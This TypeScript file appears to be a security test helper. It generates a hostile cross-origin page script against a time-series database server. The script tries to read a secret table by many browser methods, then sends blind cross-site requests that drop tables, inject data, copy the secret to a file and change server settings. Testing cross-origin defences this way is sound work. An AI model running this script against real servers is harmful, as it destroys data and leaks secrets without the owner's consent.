/** What a hostile page tries: a script for a page of another origin, which gives back all that it could read. */

/** What it aims at. */
export interface Target {
  /** The server. */
  readonly url: string;
  /** `http://host:port` of the listener of put lines. */
  readonly telnet: string;
}

/** Milliseconds that each try may take before the next begins: all end by themselves, on a busy machine late. */
const TRY_MILLIS = 15_000;

/**
 * An expression whose promise gives, for each way to read, the text that it read; "" where it read nothing. Its writes are told by the
 * server's tables alone.
 */
export function attackScript({ url, telnet }: Target): string {
  return `(async () => {
    const target = ${JSON.stringify(url)}, telnet = ${JSON.stringify(telnet)};
    const sql = (text) => target + "/v1/sql?sql=" + encodeURIComponent(text);
    const encoded = (text) => new URLSearchParams({ sql: text });
    const secret = sql("SELECT word FROM secret");
    const bounded = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, ${TRY_MILLIS}, ""))]);
    const wait = (element, place = document.body) => new Promise((resolve) => {
      element.onload = element.onerror = () => resolve(element);
      place.append(element);
    });
    const made = (tag, fields) => Object.assign(document.createElement(tag), fields);
    const read = {};
    const reads = {
      fetch: async () => (await fetch(secret)).text(),
      "fetch, no-cors": async () => (await fetch(secret, { mode: "no-cors" })).text(),
      "fetch, credentials": async () => (await fetch(secret, { credentials: "include" })).text(),
      "fetch, headers": async () => (await fetch(secret, { headers: { "x-greptime-db-name": "public" } })).text(),
      "fetch, POST": async () => (await fetch(target + "/v1/sql", { method: "POST", body: encoded("SELECT word FROM secret") })).text(),
      XMLHttpRequest: () => new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onloadend = () => resolve(request.responseText);
        request.open("GET", secret);
        request.send();
      }),
      EventSource: () => new Promise((resolve) => {
        const source = new EventSource(secret);
        source.onmessage = ({ data }) => resolve(data);
        source.onerror = () => { source.close(); resolve(""); };
      }),
      WebSocket: () => new Promise((resolve) => {
        const socket = new WebSocket(secret.replace("http:", "ws:"));
        socket.onmessage = ({ data }) => resolve(String(data));
        socket.onerror = () => resolve("");
      }),
      iframe: async () => {
        const frame = await wait(made("iframe", { src: secret }));
        return frame.contentDocument?.body.textContent ?? "";
      },
      metrics: async () => (await fetch(target + "/metrics")).text(),
      config: async () => (await fetch(target + "/config")).text(),
    };
    for (const [name, run] of Object.entries(reads)) {
      try {
        read[name] = await bounded(run()) ?? "";
      } catch (error) {
        read[name] = "";
      }
    }
    const form = async (action, fields, enctype, method = "POST") => {
      const frame = made("iframe", { name: "f" + Math.random() });
      document.body.append(frame);
      const sent = made("form", { action, method, enctype, target: frame.name });
      for (const [name, value] of Object.entries(fields)) sent.append(made("input", { name, value }));
      document.body.append(sent);
      const loaded = new Promise((resolve) => { frame.onload = resolve; });
      sent.submit();
      return loaded;
    };
    const line = "evil,by=page v=1";
    const point = JSON.stringify({ metric: "evil", timestamp: 1, value: 1, tags: { a: "b" } });
    const typed = { method: "POST", headers: { "content-type": "application/json" } };
    const blind = (path, body, init = {}) => fetch(target + path, { method: "POST", mode: "no-cors", body, ...init });
    const writes = {
      image: () => wait(made("img", { src: sql("DROP TABLE t_image") })),
      script: () => wait(made("script", { src: sql("DROP TABLE t_script") })),
      stylesheet: () => wait(made("link", { rel: "stylesheet", href: sql("DROP TABLE t_style") })),
      prefetch: () => wait(made("link", { rel: "prefetch", href: sql("DROP TABLE t_prefetch") })),
      frame: () => wait(made("iframe", { src: sql("DROP TABLE t_frame") })),
      "frame without referrer": () => wait(made("iframe", { src: sql("DROP TABLE t_frame"), referrerPolicy: "no-referrer" })),
      object: () => wait(made("object", { data: sql("DROP TABLE t_object") })),
      video: () => wait(made("video", { src: sql("DROP TABLE t_video") })),
      "blind GET": () => fetch(sql("DROP TABLE t_get"), { mode: "no-cors", referrerPolicy: "no-referrer" }),
      "sandboxed frame": () =>
        wait(made("iframe", { sandbox: "allow-scripts", srcdoc: "<img src='" + sql("DROP TABLE t_sandbox") + "'>" })),
      "GET that makes a database": () => fetch(target + "/v1/influxdb/query?q=CREATE+DATABASE+evil", { mode: "no-cors" }),
      "form, encoded": () => form(target + "/v1/sql", { sql: "DROP TABLE t_form" }, "application/x-www-form-urlencoded"),
      "form, GET": () => form(target + "/v1/sql", { sql: "DROP TABLE t_form" }, "application/x-www-form-urlencoded", "GET"),
      "form, plain": () => form(target + "/v1/influxdb/write", { "evil,by": "form v=1" }, "text/plain"),
      "lines of InfluxDB": () => blind("/v1/influxdb/write", line),
      "lines of InfluxDB, v2": () => blind("/v1/influxdb/api/v2/write?bucket=public", line),
      beacon: () => navigator.sendBeacon(target + "/v1/influxdb/write", line),
      "JSON with headers": () => fetch(target + "/v1/opentsdb/api/put", { ...typed, body: point }),
      "JSON as text": () => blind("/v1/opentsdb/api/put", point),
      "log lines": () => blind("/v1/ingest?table=evil&pipeline_name=greptime_identity", JSON.stringify([{ a: 1 }])),
      loki: () => blind("/v1/loki/api/v1/push", JSON.stringify({ streams: [{ stream: { a: "b" }, values: [["1", "x"]] }] })),
      otlp: () => blind("/v1/otlp/v1/logs", JSON.stringify({ resourceLogs: [] })),
      "remote write": () => blind("/v1/prometheus/write", new Uint8Array([0])),
      "bulk": () => blind("/v1/elasticsearch/_bulk", '{"create":{"_index":"evil"}}\\n{"a":1}\\n'),
      "a file": () => blind("/v1/sql", encoded("COPY secret TO 'evil.csv' WITH (FORMAT = 'csv')")),
      "a pipeline": () => blind("/v1/pipelines/evil", "transform: []"),
      "PUT": () => fetch(target + "/v1/sql", { method: "PUT", body: "x" }),
      "DELETE": () => fetch(target + "/v1/pipelines/mine?version=1", { method: "DELETE" }),
      "log level": () => blind("/debug/log_level", "error"),
      "put lines": () => fetch(telnet + "/x", { method: "POST", mode: "no-cors", body: "put evil 1 1 a=b\\nput evil 2 1 a=b\\n" }),
    };
    for (const run of Object.values(writes)) {
      try {
        await bounded(Promise.resolve(run()));
      } catch (error) {
        // What the browser refuses has not been sent.
      }
    }
    return read;
  })()`;
}

/** Tables that the writes would drop. */
export const DROPPED: readonly string[] = [
  "t_image",
  "t_script",
  "t_style",
  "t_prefetch",
  "t_frame",
  "t_object",
  "t_video",
  "t_get",
  "t_sandbox",
  "t_form",
];
